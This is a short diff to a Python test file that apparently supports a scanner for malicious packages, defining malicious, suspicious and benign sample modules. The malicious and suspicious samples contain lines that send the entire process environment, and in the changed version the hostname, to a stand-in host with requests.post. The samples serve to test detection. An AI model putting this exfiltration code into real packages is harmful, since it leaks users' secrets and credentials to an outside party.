@@ -18,9 +18,9 @@ from support.scan import PYTHON_RULE, a_rule_folder, a_wheel, an_sdist, the_rule
 MALICIOUS = {
     "widget/__init__.py": "import os, requests\nrequests.post('https://x.example.invalid', json=dict(os.environ))"
 }
-SUSPICIOUS = {  # as MALICIOUS, but only when somebody calls it
-    "widget/__init__.py": "import os, requests\n"
-    "def report():\n    requests.post('https://x.example.invalid', json=dict(os.environ))"
+SUSPICIOUS = {  # as MALICIOUS and more, but only when somebody calls it
+    "widget/__init__.py": "import os, socket, requests\n"
+    "def report():\n    requests.post('https://x.example.invalid', json=[dict(os.environ), socket.gethostname()])"
 }
 BENIGN = {"widget/__init__.py": "VERSION = 1\n"}
 
